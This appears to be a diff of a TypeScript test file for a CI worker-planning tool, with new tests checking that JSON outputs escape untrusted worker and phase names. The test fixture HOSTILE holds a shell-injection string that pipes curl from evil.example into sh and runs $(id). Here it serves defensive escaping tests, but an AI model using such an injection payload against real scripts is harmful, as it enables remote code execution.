@@ -1,12 +1,16 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import {
   exportedEnvironment,
   fallbackOutputs,
   mergeGradleOpts,
   mergeMakeflags,
+  outputJson,
   planOutputs,
 } from '../../src/plan/outputs.js';
 import { staticEstimate } from '../../src/estimate/choose.js';
+import { estimateFromHistory } from '../../src/estimate/estimate.js';
+import { profile } from '../support/profiles.js';
 import { planWorkers } from '../../src/plan/planner.js';
 import { MiB } from '../../src/shared/units.js';
 import { DEFAULT_SETTINGS } from '../support/settings.js';
@@ -39,13 +43,13 @@ describe('planOutputs', () => {
 });
 
 describe('fallbackOutputs', () => {
-  const fallback = { forcedWorkers: null, minWorkers: 2, perWorkerBytes: 1024 * MiB, problem: 'x' };
+  const fallback = { forcedWorkers: null, minWorkers: 2, perWorkerBytes: 1024 * MiB };
 
   it('counts min-workers, each with the heap of a fallback-sized worker (1024 × 0.75)', () => {
     expect(fallbackOutputs(fallback)).toEqual({
       workers: '2',
       'limited-by': 'min-workers',
-      reason: 'No plan (x): min-workers, 2.',
+      reason: "No plan (the step's warning says why): min-workers, 2.",
       'memory-per-worker-mb': '1024',
       'node-heap-mb': '768',
       'history-runs': '0',
@@ -54,11 +58,12 @@ describe('fallbackOutputs', () => {
     });
   });
 
-  it('a forced count wins, and the reason stays one short line', () => {
-    const outputs = fallbackOutputs({ ...fallback, forcedWorkers: 6, problem: 'a\nb'.repeat(200) });
-    expect(outputs).toMatchObject({ workers: '6', 'limited-by': 'override' });
-    expect(outputs.reason).not.toContain('\n');
-    expect(outputs.reason!.length).toBeLessThan(260);
+  it('a forced count wins', () => {
+    expect(fallbackOutputs({ ...fallback, forcedWorkers: 6 })).toMatchObject({
+      workers: '6',
+      'limited-by': 'override',
+      reason: "No plan (the step's warning says why): the forced count, 6.",
+    });
   });
 
   it('sets a subset of planOutputs, so every name is declared', () => {
@@ -98,5 +103,66 @@ describe('export-env', () => {
       GRADLE_OPTS: '-Dorg.gradle.workers.max=4',
     });
     expect(Object.keys(env)).not.toContain('NODE_OPTIONS');
+  });
+});
+
+describe('JSON outputs hold no character a shell or an expression reads', () => {
+  /** What a script that pastes the output in (quoted or not) could read as syntax. */
+  const SHELL_SYNTAX = /[^A-Za-z0-9 _.,:+\-/=%@#{}[\]"\\]/;
+  const HOSTILE = `x'; curl evil.example | sh; echo '$(id)\`id\`<a>&(b)!~*?\u202e\u00e9`;
+
+  function hostilePlan() {
+    // Untrusted names reach the plan: the worker group's name, and the phases history holds.
+    const history = [1, 2, 3].map((runId) => ({
+      profile: profile([{ name: HOSTILE, peakBytes: 4e9, workerName: HOSTILE }], { runId }),
+      url: null,
+    }));
+    const estimate = estimateFromHistory({
+      profiles: history,
+      phase: HOSTILE,
+      capacityMemoryLimitBytes: 16 * 1024 ** 3,
+      capacityOs: 'linux',
+      nowMs: Date.parse('2026-11-21T00:00:00.000Z'),
+      fallback: staticEstimate(1024 * MiB, 'fallback'),
+    });
+    const other = estimateFromHistory({
+      profiles: history,
+      phase: 'test',
+      capacityMemoryLimitBytes: 16 * 1024 ** 3,
+      capacityOs: 'linux',
+      nowMs: Date.parse('2026-11-21T00:00:00.000Z'),
+      fallback: staticEstimate(1024 * MiB, 'fallback'),
+    });
+    return planWorkers({
+      capacity: { cpus: 4, memoryAvailableBytes: 8192 * MiB, memoryLimitBytes: 16384 * MiB },
+      settings: DEFAULT_SETTINGS,
+      estimate: { ...estimate, notes: [...estimate.notes, ...other.notes] },
+    });
+  }
+
+  it('escapes the untrusted text in plan-json, and it parses back to the same plan', () => {
+    const hostile = hostilePlan();
+    // The test means something only if the hostile names did reach the plan.
+    expect(hostile.estimate.workerName).toBe(HOSTILE);
+    expect(hostile.estimate.notes.join('\n')).toContain('they have phase(s) "x\'; curl evil');
+    const outputs = planOutputs(hostile);
+    // The plain outputs are numbers, enums and the planner's own sentence: nothing quoted.
+    for (const [name, value] of Object.entries(outputs))
+      if (name !== 'plan-json') expect(value, name).not.toContain('evil');
+    const json = outputs['plan-json'] ?? '';
+    expect(json).not.toMatch(SHELL_SYNTAX);
+    expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(hostile)));
+  });
+
+  it('outputJson: any value round-trips, and no character outside the safe set is written', () => {
+    fc.assert(
+      fc.property(fc.jsonValue(), fc.string({ unit: 'binary' }), (value, text) => {
+        for (const input of [value, { text, nested: [text, value] }]) {
+          const written = outputJson(input);
+          expect(written).not.toMatch(SHELL_SYNTAX);
+          expect(JSON.parse(written)).toEqual(JSON.parse(JSON.stringify(input)));
+        }
+      }),
+    );
   });
 });
